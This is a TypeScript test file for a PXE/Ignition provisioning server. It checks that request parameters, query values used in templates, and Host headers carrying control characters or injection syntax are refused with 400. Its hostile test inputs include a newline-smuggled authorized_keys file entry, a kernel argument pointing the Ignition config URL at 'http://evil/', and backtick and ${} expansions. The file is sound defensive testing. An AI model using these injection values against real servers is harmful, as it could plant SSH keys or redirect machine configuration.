// Values from a request are data, never structure: a label holding a control
// character or a line break is refused (400, naming the parameter) on every
// endpoint that selects a group; where a profile lets templates read the
// query (allow_query), quotes, backslashes, '$', braces and whitespace are
// refused too, so no value can add a file, a key or a line to a config; a
// Host header that is not HOST[:PORT] is refused. Legitimate values (URLs
// with '&' and '=', IPv6 literals) still render.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { request } from "node:http";
import { connect } from "node:net";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type RunningServer, startServer } from "../../../../src/deliver/pxe/server.js";
import { DirectoryStore } from "../../../../src/deliver/pxe/store/directory.js";

let server: RunningServer;
let dir: string;
const lines: string[] = [];

const QUERY_BU = [
  "variant: fcos",
  "version: 1.5.0",
  "storage:",
  "  files:",
  "    - path: /etc/next",
  "      contents:",
  "        inline: {{request.query.v}}",
  "",
].join("\n");

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "kindling-values-"));
  const files: Record<string, string> = {
    "profiles/q.json": JSON.stringify({ id: "q", ignition_id: "q.bu", generic_id: "q.txt", allow_query: true }),
    "profiles/plain.json": JSON.stringify({ id: "plain", ignition_id: "plain.bu", generic_id: "plain.txt" }),
    "profiles/v.json": JSON.stringify({ id: "v", ignition_id: "plain.bu", verify: true }),
    "groups/q.json": JSON.stringify({ id: "q", profile: "q", selector: { role: "q" } }),
    "groups/plain.json": JSON.stringify({ id: "plain", profile: "plain", selector: { role: "plain" } }),
    "groups/v.json": JSON.stringify({ id: "v", profile: "v", selector: { role: "v" } }),
    "ignition/q.bu": QUERY_BU,
    "ignition/plain.bu": "variant: fcos\nversion: 1.5.0\n",
    "generic/q.txt": "v={{request.query.v}} raw={{request.raw_query}}\n",
    "generic/plain.txt": "role={{role}}\n",
  };
  for (const [f, text] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, f)), { recursive: true });
    writeFileSync(join(dir, f), text);
  }
  server = await startServer({
    store: new DirectoryStore(dir),
    port: 0,
    watch: false,
    reportSecret: "report-secret-for-tests-0123456789abcdef",
    log: (l) => lines.push(l),
  });
});
afterAll(async () => {
  await server.close();
  rmSync(dir, { recursive: true, force: true });
});

/** GET with the path as given (node's client sends quotes, braces and backslashes raw). */
function get(path: string, headers: Record<string, string> = {}): Promise<{ status: number; body: string }> {
  const url = new URL(server.url);
  return new Promise((resolve, reject) => {
    const req = request({ host: url.hostname, port: url.port, path, headers }, (res) => {
      let body = "";
      res.on("data", (d) => (body += d));
      res.on("end", () => resolve({ status: res.statusCode!, body }));
    });
    req.on("error", reject);
    req.end();
  });
}

/** A request written byte for byte on a socket; the whole answer, once the server closes. */
function rawRequest(text: string): Promise<string> {
  const url = new URL(server.url);
  return new Promise((resolve, reject) => {
    const socket = connect(Number(url.port), url.hostname, () => socket.end(text));
    let got = "";
    socket.on("data", (d) => (got += d));
    socket.on("close", () => resolve(got));
    socket.on("error", reject);
  });
}

// Control characters and line breaks, percent-encoded: C0 (NUL, LF, CR, TAB, ESC), DEL, C1 (NEL), U+2028, U+2029.
const CONTROL = ["%00", "%0A", "%0D", "%09", "%1B", "%7F", "%C2%85", "%E2%80%A8", "%E2%80%A9"];

describe("labels", () => {
  it("holding a control character or a line break are refused with 400 naming the parameter, on every selecting endpoint and whatever the profile", async () => {
    for (const c of CONTROL) {
      const cases: [string, string][] = [
        ["uuid", `/ignition?role=v&uuid=a${c}b`],
        ["role", `/ignition?role=plain${c}`],
        ["note", `/generic?role=plain&note=${c}`],
        ["note", `/metadata?role=plain&note=x${c}`],
        ["serial", `/ipxe?role=q&serial=${c}`],
        ["v", `/script?role=q&v=${c}`],
      ];
      for (const [name, path] of cases) {
        const r = await get(path);
        expect(r.status, path).toBe(400);
        expect(r.body, path).toContain(`"${name}"`);
      }
      // in a parameter's name too, named as JSON writes it
      const r = await get(`/generic?role=plain&a${c}b=1`);
      expect(r.status, c).toBe(400);
      expect(r.body, c).toContain(JSON.stringify(`a${decodeURIComponent(c)}b`));
    }
  });

  it("refuses the NUL that made a verified profile's agent fail with 500", async () => {
    const r = await get("/ignition?role=v&uuid=%00");
    expect(r).toEqual({ status: 400, body: expect.stringContaining('"uuid"') });
  });

  it("still select and render when they are plain", async () => {
    expect(await get("/generic?role=plain&note=a%20b%22c")).toEqual({ status: 200, body: "role=plain\n" });
    expect((await get("/ignition?role=v&uuid=0E5F0C5D-0000-4000-8000-000000000001")).status).toBe(200);
  });
});

describe("query values under allow_query", () => {
  const HOSTILE: [string, string][] = [
    ["a newline that adds a file", "a%0A%20%20%20%20-%20path:%20/root/.ssh/authorized_keys"],
    ["a carriage return", "a%0Db"],
    ["a NUL", "a%00b"],
    ["a double quote", "a%22b"],
    ["a single quote", "a'b"],
    ["a backtick", "a%60id%60"],
    ["a backslash", "a%5Cnb"],
    ["a template", "%7B%7Brole%7D%7D"],
    ["a shell or iPXE expansion", "%24%7Bvar%7D"],
    ["a space, which starts another kernel or iPXE argument", "a+ignition.config.url=http://evil/"],
    ["a tab", "a%09b"],
  ];
  for (const [what, value] of HOSTILE) {
    it(`refuses ${what} with 400 naming the parameter, on every templated endpoint`, async () => {
      for (const endpoint of ["/ignition", "/generic", "/script", "/cloud-config"]) {
        const r = await get(`${endpoint}?role=q&v=${value}`);
        expect(r.status, `${endpoint} ${value}`).toBe(400);
        expect(r.body, `${endpoint} ${value}`).toContain('"v"');
      }
    });
  }

  it("refuses a hostile character sent raw, in a later value only the raw query holds", async () => {
    for (const raw of ['v=ok&v="x"', "v=ok&v=a\\b", "v=ok&w={{x}}", "v=ok&w=$HOME"]) {
      const r = await get(`/generic?role=q&${raw}`);
      expect(r.status, raw).toBe(400);
      expect(r.body, raw).toMatch(/"[vw]"/);
    }
  });

  it("still renders legitimate values: URLs with '&' and '=', IPv6 literals, percent-encodings in the raw query", async () => {
    const url = "http://[fd00::1]:8080/assets/x.img?a=1&b=2#frag";
    const r = await get(`/generic?role=q&v=${encodeURIComponent(url)}&n=%2Fdev%2Fsda`);
    expect(r).toEqual({ status: 200, body: `v=${url} raw=role=q&v=${encodeURIComponent(url)}&n=%2Fdev%2Fsda\n` });
    const ign = await get(`/ignition?role=q&v=${encodeURIComponent("https://example.com/a?b=c&d=e")}`);
    expect(ign.status).toBe(200);
    expect(JSON.parse(ign.body).storage.files).toEqual([
      { path: "/etc/next", contents: { compression: "", source: "data:,https%3A%2F%2Fexample.com%2Fa%3Fb%3Dc%26d%3De" } },
    ]);
  });

  it("leaves profiles without allow_query alone: their templates never see the query", async () => {
    expect((await get("/generic?role=plain&note=%22%7B%7Bx%7D%7D%24%5C")).status).toBe(200);
  });
});

describe("the Host header", () => {
  it("that is not HOST[:PORT] is refused with 400, not a 500", async () => {
    for (const host of ["a b", "a/b", "x@y", 'a"b']) {
      const answer = await rawRequest(`GET /ignition?role=v HTTP/1.1\r\nHost: ${host}\r\nConnection: close\r\n\r\n`);
      expect(answer, host).toMatch(/^HTTP\/1\.1 400 /);
      expect(answer, host).toContain("Host");
    }
    // a good one still works, and the server is still up
    expect(await rawRequest("GET /healthz HTTP/1.1\r\nHost: kindling.lan:8080\r\nConnection: close\r\n\r\n")).toMatch(/^HTTP\/1\.1 200 /);
  });
});
